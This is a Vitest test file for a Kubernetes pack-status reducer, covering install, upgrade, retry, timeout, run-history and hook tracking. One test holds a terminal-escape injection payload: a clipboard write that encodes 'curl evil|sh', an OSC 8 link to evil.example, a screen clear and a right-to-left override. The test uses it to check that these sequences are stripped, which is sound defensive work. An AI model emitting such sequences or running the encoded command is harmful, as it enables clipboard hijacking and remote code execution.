import { describe, expect, it } from 'vitest';
import type { ObjectRef } from '../shared/refs.js';
import { initialPackStatus, reducePackStatus, type PackEvent, type PackStatus } from './pack-status.js';
import { KEPT_TEXT_MAX } from '../shared/kept-text.js';
import { MAX_RUNS } from './revision-runs.js';
import type { ResourceEvaluation } from './resource-state.js';

const grafana: ObjectRef = {
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  namespace: 'monitoring',
  name: 'grafana',
};
const config: ObjectRef = { apiVersion: 'v1', kind: 'ConfigMap', namespace: 'monitoring', name: 'grafana' };

const ev = (
  state: ResourceEvaluation['state'],
  reason: string,
  detail: string,
  ref = grafana,
): ResourceEvaluation => ({
  state,
  reason,
  message: `${ref.kind} ${ref.namespace ?? ''}/${ref.name}: ${detail}`,
});

const t = (minute: number) => `2026-11-20T09:${String(minute).padStart(2, '0')}:00Z`;

function run(
  events: readonly PackEvent[],
  start: PackStatus = initialPackStatus({ revision: 'r1' }),
): PackStatus {
  return events.reduce(reducePackStatus, start);
}

const installToGreen: PackEvent[] = [
  {
    type: 'StageChanged',
    time: t(0),
    stage: { type: 'Waiting', waitingFor: [{ pack: 'cni/calico', phase: 'processing' }] },
  },
  { type: 'StageChanged', time: t(1), stage: { type: 'Rendering' } },
  { type: 'StageChanged', time: t(2), stage: { type: 'Applying' } },
  { type: 'InventoryChanged', time: t(2), resources: [config, grafana] },
  { type: 'StageChanged', time: t(2), stage: { type: 'Applied' } },
  { type: 'ResourceEvaluated', time: t(3), ref: config, evaluation: ev('Ready', 'Exists', 'exists', config) },
  {
    type: 'ResourceEvaluated',
    time: t(3),
    ref: grafana,
    evaluation: ev('Progressing', 'LessAvailable', '1/3 available'),
  },
  {
    type: 'ResourceEvaluated',
    time: t(4),
    ref: grafana,
    evaluation: ev('Ready', 'Available', '3/3 available'),
  },
];

describe('reducePackStatus', () => {
  it("keeps no terminal control of a cluster's text (review 10, finding 5)", () => {
    // A workload wrote this to /dev/termination-log: the pod's evaluation carries it as its message.
    const attack =
      '\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\u202e';
    const s = run([
      ...installToGreen,
      {
        type: 'ResourceEvaluated',
        time: t(5),
        ref: grafana,
        evaluation: ev('Failed', 'Error', `container "c" exited with code 1: ${attack}`),
      },
    ]);
    expect(s.phase).toBe('failed');
    expect(s.message).toContain(
      'exited with code 1: ]52;c;Y3VybCBldmlsfHNo[2J]8;;https://evil.exampleclick]8;;',
    );
    expect(JSON.stringify(s)).not.toMatch(/\\u001b|\\u0007|\u202e/);
  });

  it("keeps at most KEPT_TEXT_MAX characters of each of a cluster's texts, marked as an agent's are", () => {
    // A condition message or a webhook's refusal is as long as the object that holds it (up to 1.5 MiB), a
    // chart's failure output has no bound: a cluster the hub drives is held to what an agent may send.
    const long = (what: string) => `${what}: ${'x'.repeat(200 * 1024)}`;
    const marked = (text: string | undefined, what: string) => {
      expect(text).toHaveLength(KEPT_TEXT_MAX);
      expect(text).toMatch(new RegExp(`^${what}: x+…\\[\\d+ more characters cut by the hub\\]$`, 'u'));
    };
    const failed = run([
      ...installToGreen,
      { type: 'ResourceEvaluated', time: t(5), ref: grafana, evaluation: ev('Failed', 'Error', long('OOM')) },
    ]);
    expect(failed.phase).toBe('failed');
    marked(failed.message, 'Deployment monitoring/grafana: OOM');
    marked(failed.resources[1]?.evaluation.message, 'Deployment monitoring/grafana: OOM');
    marked(failed.transitions.at(-1)?.message, 'Deployment monitoring/grafana: OOM');
    const rejected = run([
      { type: 'StageChanged', time: t(1), stage: { type: 'ApplyFailed', error: long('admission webhook') } },
    ]);
    expect(rejected.stage.type === 'ApplyFailed' ? rejected.stage.error : undefined).toHaveLength(
      KEPT_TEXT_MAX,
    );
    marked(rejected.message, 'apply rejected: admission webhook');
    // A timeout lists five resources' messages: each kept at the bound, and the pack's message too.
    const refs = [1, 2, 3, 4, 5].map((i) => ({ ...config, name: `c${String(i)}` }));
    const timedOut = run([
      { type: 'StageChanged', time: t(1), stage: { type: 'Applying' } },
      { type: 'InventoryChanged', time: t(1), resources: refs },
      { type: 'StageChanged', time: t(1), stage: { type: 'Applied' } },
      ...refs.map((ref): PackEvent => ({
        type: 'ResourceEvaluated',
        time: t(2),
        ref,
        evaluation: { state: 'Progressing', reason: 'Waiting', message: long('waiting') },
      })),
      { type: 'TimedOut', time: t(9), timeout: { deadline: t(9) } },
    ]);
    expect(timedOut.reason).toBe('TimedOut');
    marked(timedOut.message, `timed out \\(deadline ${t(9)}\\); still waiting for: waiting`);
    // Text that fits is kept as it came: the same status when nothing changed.
    const again = reducePackStatus(failed, {
      type: 'ResourceEvaluated',
      time: t(6),
      ref: grafana,
      evaluation: ev('Failed', 'Error', long('OOM')),
    });
    expect(again).toBe(failed);
  });

  it('follows an install from gray through blue to green, with times and transitions', () => {
    const s = run(installToGreen);
    expect(s).toMatchObject({
      phase: 'success',
      condition: 'Ready',
      progress: { ready: 2, total: 2 },
      startTime: t(1),
      endTime: t(4),
    });
    expect(s.transitions.map((x) => [x.time, x.from, x.to, x.condition])).toEqual([
      [t(1), 'onboarding', 'processing', 'Installing'],
      [t(4), 'processing', 'success', 'Ready'],
    ]);
  });

  it('records the waiting message while a resource converges', () => {
    const s = run(installToGreen.slice(0, 7));
    expect(s).toMatchObject({
      phase: 'processing',
      condition: 'Installed',
      message: '1/2 resources ready; waiting for Deployment monitoring/grafana: 1/3 available',
    });
  });

  it('goes red when a pod fails after green, and green again when it recovers; endTime stays the first', () => {
    const green = run(installToGreen);
    const red = reducePackStatus(green, {
      type: 'ResourceEvaluated',
      time: t(10),
      ref: grafana,
      evaluation: {
        ...ev('Failed', 'CrashLoopBackOff', ''),
        message: 'Pod monitoring/grafana-7d9-abc: CrashLoopBackOff: back-off 5m0s',
      },
    });
    expect(red).toMatchObject({ phase: 'failed', reason: 'CrashLoopBackOff', endTime: t(4) });
    const again = reducePackStatus(red, {
      type: 'ResourceEvaluated',
      time: t(12),
      ref: grafana,
      evaluation: ev('Ready', 'Available', '3/3 available'),
    });
    expect(again.phase).toBe('success');
    expect(again.transitions.slice(-2).map((x) => [x.from, x.to, x.reason])).toEqual([
      ['success', 'failed', 'CrashLoopBackOff'],
      ['failed', 'success', 'AllResourcesReady'],
    ]);
  });

  it('turns red on timeout while processing, naming what it waited for, and ignores a timeout otherwise', () => {
    const blue = run(installToGreen.slice(0, 7));
    const timedOut = reducePackStatus(blue, {
      type: 'TimedOut',
      time: t(12),
      timeout: { deadline: t(12), after: '10m' },
    });
    expect(timedOut).toMatchObject({ phase: 'failed', reason: 'TimedOut', endTime: t(12) });
    expect(timedOut.message).toContain('still waiting for: Deployment monitoring/grafana: 1/3 available');

    const green = run(installToGreen);
    expect(reducePackStatus(green, { type: 'TimedOut', time: t(12), timeout: { deadline: t(12) } })).toBe(
      green,
    );
  });

  it('forgets the timeout once green, so a later blue spell does not turn red on the old deadline', () => {
    const blue = run(installToGreen.slice(0, 7));
    const timedOut = reducePackStatus(blue, { type: 'TimedOut', time: t(12), timeout: { deadline: t(12) } });
    const green = reducePackStatus(timedOut, {
      type: 'ResourceEvaluated',
      time: t(13),
      ref: grafana,
      evaluation: ev('Ready', 'Available', '3/3 available'),
    });
    expect(green.phase).toBe('success');
    expect(green.timedOut).toBeUndefined();
    const blueAgain = reducePackStatus(green, {
      type: 'ResourceEvaluated',
      time: t(20),
      ref: grafana,
      evaluation: ev('Progressing', 'LessAvailable', '2/3 available'),
    });
    expect(blueAgain.phase).toBe('processing');
  });

  it('starts a new revision: Upgrading on its own clock, endTime cleared, then set again when it settles', () => {
    const green = run(installToGreen);
    const upgrading = reducePackStatus(green, {
      type: 'RevisionStarted',
      time: t(30),
      revision: 'r2',
      operation: 'upgrade',
      stage: { type: 'Rendering' },
    });
    expect(upgrading).toMatchObject({
      revision: 'r2',
      phase: 'processing',
      condition: 'Upgrading',
      // The upgrade's own start, not the install's (issue 18: a 2-second-old upgrade showed "5m 14s").
      startTime: t(30),
    });
    expect(upgrading.endTime).toBeUndefined();
    const applied = reducePackStatus(upgrading, {
      type: 'StageChanged',
      time: t(31),
      stage: { type: 'Applied' },
    });
    // Applied, but nothing of r2 observed yet: the green of r1 says nothing about r2 (ADR 0006).
    expect(applied).toMatchObject({ phase: 'processing', reason: 'AwaitingNewRevision' });
    expect(applied.message).toContain('ConfigMap monitoring/grafana: applying the new revision');
    const done = run(
      [
        {
          type: 'ResourceEvaluated',
          time: t(32),
          ref: config,
          evaluation: ev('Ready', 'Exists', 'exists', config),
        },
        {
          type: 'ResourceEvaluated',
          time: t(33),
          ref: grafana,
          evaluation: ev('Ready', 'Available', '3/3 available'),
        },
      ],
      applied,
    );
    expect(done).toMatchObject({ phase: 'success', startTime: t(30), endTime: t(33) });
    expect(done.transitions.map((tr) => tr.to).slice(-2)).toEqual(['processing', 'success']);
    expect(done.runs).toEqual([
      { kind: 'install', revision: 'r1', startTime: t(1), endTime: t(4), outcome: 'success' },
      { kind: 'upgrade', revision: 'r2', startTime: t(30), endTime: t(33), outcome: 'success' },
    ]);
  });

  it('a retry of a red pack starts a new clock and a new run; the failed run keeps its times', () => {
    const failedAt = reducePackStatus(run(installToGreen.slice(0, 7)), {
      type: 'StageChanged',
      time: t(5),
      stage: { type: 'ApplyFailed', error: 'admission webhook denied the request' },
    });
    expect(failedAt).toMatchObject({ phase: 'failed', startTime: t(1), endTime: t(5) });
    // What the engine does on a retry: render again, then announce the same revision.
    const retrying = run(
      [
        { type: 'StageChanged', time: t(40), stage: { type: 'Rendering' } },
        {
          type: 'RevisionStarted',
          time: t(40),
          revision: 'r1',
          operation: 'install',
          stage: { type: 'Applying' },
        },
      ],
      failedAt,
    );
    expect(retrying).toMatchObject({ phase: 'processing', startTime: t(40) });
    expect(retrying.endTime).toBeUndefined();
    const done = run(
      [
        { type: 'StageChanged', time: t(41), stage: { type: 'Applied' } },
        {
          type: 'ResourceEvaluated',
          time: t(42),
          ref: config,
          evaluation: ev('Ready', 'Exists', 'exists', config),
        },
        { type: 'ResourceEvaluated', time: t(42), ref: grafana, evaluation: ev('Ready', 'Available', '3/3') },
      ],
      retrying,
    );
    expect(done).toMatchObject({ phase: 'success', startTime: t(40), endTime: t(42) });
    expect(done.runs).toEqual([
      { kind: 'install', revision: 'r1', startTime: t(1), endTime: t(5), outcome: 'failed' },
      { kind: 'retry', revision: 'r1', startTime: t(40), endTime: t(42), outcome: 'success' },
    ]);
  });

  it('a pod that crashes and recovers is no new run: the install keeps its clock', () => {
    const green = run(installToGreen);
    const recovered = run(
      [
        {
          type: 'ResourceEvaluated',
          time: t(10),
          ref: grafana,
          evaluation: ev('Failed', 'CrashLoopBackOff', 'x'),
        },
        { type: 'ResourceEvaluated', time: t(12), ref: grafana, evaluation: ev('Ready', 'Available', '3/3') },
      ],
      green,
    );
    expect(recovered).toMatchObject({ phase: 'success', startTime: t(1), endTime: t(4) });
    expect(recovered.runs).toHaveLength(1);
  });

  it('an upgrade arriving while the install still converges starts its own run', () => {
    const blue = run(installToGreen.slice(0, 7));
    const upgrading = reducePackStatus(blue, {
      type: 'RevisionStarted',
      time: t(6),
      revision: 'r2',
      operation: 'upgrade',
      stage: { type: 'Applying' },
    });
    expect(upgrading).toMatchObject({ startTime: t(6) });
    expect(upgrading.runs?.map((r) => [r.kind, r.revision, r.startTime, r.endTime])).toEqual([
      ['install', 'r1', t(1), undefined],
      ['upgrade', 'r2', t(6), undefined],
    ]);
  });

  it('keeps at most MAX_RUNS runs, dropping the oldest', () => {
    let s = run(installToGreen);
    for (let i = 0; i < MAX_RUNS + 5; i++) {
      s = reducePackStatus(s, {
        type: 'RevisionStarted',
        time: `2026-11-20T10:${String(i).padStart(2, '0')}:00Z`,
        revision: `r${String(i + 2)}`,
        operation: 'upgrade',
        stage: { type: 'Applying' },
      });
    }
    expect(s.runs).toHaveLength(MAX_RUNS);
    expect(s.runs?.at(-1)?.revision).toBe(`r${String(MAX_RUNS + 6)}`);
  });

  it('sets aside every evaluated resource of a green pack when a new revision starts, not only failed ones', () => {
    const green = run(installToGreen);
    const upgrading = reducePackStatus(green, {
      type: 'RevisionStarted',
      time: t(30),
      revision: 'r2',
      operation: 'upgrade',
      stage: { type: 'Applied' },
    });
    expect(upgrading.phase).toBe('processing');
    expect(upgrading.resources.map((r) => [r.evaluation.state, r.evaluation.reason])).toEqual([
      ['Progressing', 'AwaitingNewRevision'],
      ['Progressing', 'AwaitingNewRevision'],
    ]);
    expect(upgrading.progress).toEqual({ ready: 0, total: 2 });
  });

  it('keeps a hook marked as a hook while it waits for the new revision', () => {
    const marked = reducePackStatus(run(installToGreen), {
      type: 'HooksMarked',
      time: t(29),
      hooks: [config],
    });
    const upgrading = reducePackStatus(marked, {
      type: 'RevisionStarted',
      time: t(30),
      revision: 'r2',
      operation: 'upgrade',
      stage: { type: 'Applying' },
    });
    expect(upgrading.resources.map((r) => [r.hook, r.evaluation.reason])).toEqual([
      [true, 'AwaitingNewRevision'],
      [undefined, 'AwaitingNewRevision'],
    ]);
  });

  it('sets aside what failed under the previous revision when a new one starts: blue, not red, while it applies', () => {
    const red = reducePackStatus(run(installToGreen), {
      type: 'ResourceEvaluated',
      time: t(10),
      ref: grafana,
      evaluation: ev('Failed', 'ImagePullBackOff', 'pod grafana-1: ImagePullBackOff'),
    });
    expect(red.phase).toBe('failed');
    const fixing = reducePackStatus(red, {
      type: 'RevisionStarted',
      time: t(11),
      revision: 'r2',
      operation: 'upgrade',
      stage: { type: 'Applying' },
    });
    expect(fixing).toMatchObject({
      phase: 'processing',
      condition: 'Upgrading',
      reason: 'AwaitingNewRevision',
    });
    expect(fixing.resources.map((r) => r.evaluation.state)).toEqual(['Progressing', 'Progressing']);
    expect(fixing.resources[1]?.evaluation.message).toBe(
      'Deployment monitoring/grafana: applying the new revision (failed under the previous one: Deployment monitoring/grafana: pod grafana-1: ImagePullBackOff)',
    );
    // The same revision again (a retry) keeps the evaluations: a failure of this revision is about now.
    const retried = reducePackStatus(red, {
      type: 'RevisionStarted',
      time: t(11),
      revision: red.revision,
      operation: 'upgrade',
      stage: { type: 'Applying' },
    });
    expect(retried.phase).toBe('failed');
  });

  it('keeps evaluations across an inventory change and starts new objects as not yet observed', () => {
    const green = run(installToGreen);
    const secret: ObjectRef = { apiVersion: 'v1', kind: 'Secret', namespace: 'monitoring', name: 'admin' };
    const s = reducePackStatus(green, {
      type: 'InventoryChanged',
      time: t(40),
      resources: [config, secret, grafana],
    });
    expect(s.resources.map((r) => r.evaluation.state)).toEqual(['Ready', 'Missing', 'Ready']);
    expect(s.message).toBe('2/3 resources ready; waiting for Secret monitoring/admin: not yet observed');
  });

  describe('returns the same reference when nothing changes', () => {
    const green = run(installToGreen);
    it.each<[string, PackEvent]>([
      [
        'an identical evaluation',
        {
          type: 'ResourceEvaluated',
          time: t(50),
          ref: grafana,
          evaluation: ev('Ready', 'Available', '3/3 available'),
        },
      ],
      [
        'an evaluation of an object the pack does not own',
        {
          type: 'ResourceEvaluated',
          time: t(50),
          ref: { ...grafana, name: 'other' },
          evaluation: ev('Failed', 'X', 'x'),
        },
      ],
      ['the same stage', { type: 'StageChanged', time: t(50), stage: { type: 'Applied' } }],
      [
        'the same inventory',
        { type: 'InventoryChanged', time: t(50), resources: [{ ...config }, { ...grafana }] },
      ],
      [
        'the same revision',
        {
          type: 'RevisionStarted',
          time: t(50),
          revision: 'r1',
          operation: 'install',
          stage: { type: 'Applied' },
        },
      ],
    ])('for %s', (_, event) => {
      expect(reducePackStatus(green, event)).toBe(green);
    });
  });

  it('makes a new record without a transition when only a resource message changes', () => {
    const blue = run(installToGreen.slice(0, 7));
    const next = reducePackStatus(blue, {
      type: 'ResourceEvaluated',
      time: t(5),
      ref: grafana,
      evaluation: ev('Progressing', 'LessAvailable', '2/3 available'),
    });
    expect(next).not.toBe(blue);
    expect(next.transitions).toBe(blue.transitions);
    expect(next.message).toBe(
      '1/2 resources ready; waiting for Deployment monitoring/grafana: 2/3 available',
    );
  });
});

describe('hooks among the resources', () => {
  it('marks hooks, keeps the mark through evaluations and inventory changes, and unmarks what is no longer one', () => {
    const marked = run([
      { type: 'InventoryChanged', time: t(1), resources: [config, grafana] },
      { type: 'HooksMarked', time: t(1), hooks: [config] },
      {
        type: 'ResourceEvaluated',
        time: t(2),
        ref: config,
        evaluation: ev('Ready', 'Exists', 'exists', config),
      },
      { type: 'InventoryChanged', time: t(3), resources: [grafana, config] },
    ]);
    expect(marked.resources.map((r) => [r.ref.kind, r.hook])).toEqual([
      ['Deployment', undefined],
      ['ConfigMap', true],
    ]);
    expect(marked.resources[1]?.evaluation.state).toBe('Ready');
    expect(reducePackStatus(marked, { type: 'HooksMarked', time: t(4), hooks: [config] })).toBe(marked);
    const unmarked = reducePackStatus(marked, { type: 'HooksMarked', time: t(4), hooks: [] });
    expect(unmarked.resources.every((r) => r.hook === undefined)).toBe(true);
  });
});
